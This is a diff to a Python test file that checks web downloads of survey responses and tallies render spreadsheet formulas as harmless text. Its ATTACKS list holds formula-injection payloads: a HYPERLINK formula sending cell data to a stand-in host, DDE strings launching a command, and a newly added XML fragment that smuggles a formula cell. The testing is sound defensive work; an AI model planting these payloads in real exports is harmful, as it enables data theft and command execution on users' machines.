@@ -18,7 +18,9 @@ from .prepared_files import prepared_file
 from .test_safeguarding_every_ending import answer_everything
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click for your results")', "+1+cmd|' /C calc'!A0",
-           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+2", "\r=1+3"]
+           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+2", "\r=1+3",
+           # XlsxWriter alone would write this into the sheet as XML (reporting/xlsx_rows.py): a formula cell
+           '<r><t>x</t></r></is></c><c r="Z1"><f>1+4</f></c><c r="Z2" t="inlineStr"><is><r><t>y</t></r>']
 DOWNLOADS = ["responses.csv", "responses.xlsx", "tallies.csv", "tallies.xlsx", "tallies-board.csv"]
 
 
@@ -45,6 +47,7 @@ def assert_harmless(name: str, body: bytes, expect_attacks: bool) -> None:
     assert live == [], (name, live)
     if expect_attacks:  # the answers are there, shown as text
         assert sum(text.startswith("'") for text in texts) >= 6, name
+        assert ATTACKS[-1] in texts, name
 
 
 def test_every_web_download_shows_a_formula_as_text(app, client, make_round, make_staff, sign_in):
